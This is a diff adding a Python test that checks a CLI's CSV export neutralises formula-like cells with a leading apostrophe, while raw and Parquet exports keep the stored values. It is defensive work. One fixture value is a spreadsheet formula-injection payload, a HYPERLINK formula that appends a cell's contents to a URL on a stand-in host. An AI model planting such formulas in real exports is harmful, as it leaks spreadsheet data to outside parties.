@@ -118,3 +118,52 @@ def test_cli_export(settings, tmp_path):
         ["--data-dir", str(settings.data_dir), "export", "--table", "mentions", "--since", "soon", "--out", str(out)],
     )
     assert r.exit_code == 2 and "--since: 'soon' is not a date" in r.stderr
+
+
+def test_csv_keeps_formula_looking_text_as_text(settings, store, tmp_path):
+    """A post whose text or author starts like a formula is exported to CSV with a leading ' (a spreadsheet then
+    shows it as text instead of running it); --raw-cells and Parquet keep the stored value."""
+    from brandmon.cli import app
+
+    hostile = {
+        "d1": ('=HYPERLINK("http://x.test/?"&A1,"open")', "@admin"),
+        "d2": ("+7 999 ... звоните", "-dash"),
+        "d3": ("\tcmd", "обычный автор"),
+        "d4": ("обычный текст = не формула", "user"),
+    }
+    with store.write() as con:
+        for doc_id, (text, author) in hostile.items():
+            con.execute(
+                "INSERT INTO documents (doc_id, source_id, url, author, posted_at, text, text_hash, spam) "
+                "VALUES (?, 'src', 'https://f.test/' || ?, ?, TIMESTAMPTZ '2024-12-31 00:00:00+00', ?, md5(?), false)",
+                [doc_id, doc_id, author, text, text],
+            )
+    export_table(store, "documents", tmp_path / "safe.csv")
+    t = pcsv.read_csv(tmp_path / "safe.csv").to_pydict()
+    got = dict(zip(t["doc_id"], zip(t["text"], t["author"], strict=True), strict=True))
+    assert got["d1"] == ("'" + hostile["d1"][0], "'@admin")
+    assert got["d2"] == ("'" + hostile["d2"][0], "'-dash")
+    assert got["d3"] == ("'\tcmd", "обычный автор")
+    assert got["d4"] == hostile["d4"]  # nothing else changes
+    assert pcsv.read_csv(tmp_path / "safe.csv").column_names[:3] == ["doc_id", "source_id", "url"]
+
+    export_table(store, "documents", tmp_path / "all.parquet")
+    rows = pq.read_table(tmp_path / "all.parquet").to_pydict()
+    assert dict(zip(rows["doc_id"], rows["text"], strict=True))["d1"] == hostile["d1"][0]
+
+    r = CliRunner().invoke(
+        app,
+        [
+            "--data-dir",
+            str(settings.data_dir),
+            "export",
+            "-t",
+            "documents",
+            "-o",
+            str(tmp_path / "raw.csv"),
+            "--raw-cells",
+        ],
+    )
+    assert r.exit_code == 0, r.output
+    t = pcsv.read_csv(tmp_path / "raw.csv").to_pydict()
+    assert dict(zip(t["doc_id"], t["author"], strict=True))["d1"] == "@admin"
